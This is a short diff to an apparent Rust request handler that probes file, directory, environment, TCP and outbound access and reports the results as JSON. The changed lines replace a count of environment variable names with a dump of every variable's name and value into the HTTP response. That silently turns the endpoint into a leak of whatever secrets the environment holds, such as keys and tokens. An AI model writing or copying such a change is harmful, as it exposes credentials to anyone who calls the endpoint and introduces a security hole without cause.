@@ -46,7 +46,7 @@ async fn handle(req: Request) -> Response {
             let dir = std::fs::read_dir("/")
                 .map(|d| d.count())
                 .map_err(|e| e.to_string());
-            let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
+            let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
             let tcp = std::net::TcpStream::connect("127.0.0.1:9")
                 .map(|_| ())
                 .map_err(|e| e.to_string());
@@ -58,10 +58,10 @@ async fn handle(req: Request) -> Response {
             .map(|r| *r.status())
             .map_err(|e| e.to_string());
             let body = format!(
-                r#"{{"file":{},"dir":{},"env":{},"tcp":{},"outbound":{}}}"#,
+                r#"{{"file":{},"dir":{},"env":{:?},"tcp":{},"outbound":{}}}"#,
                 outcome(&file),
                 outcome(&dir),
-                env.len(),
+                env,
                 outcome(&tcp),
                 outcome(&outbound)
             );
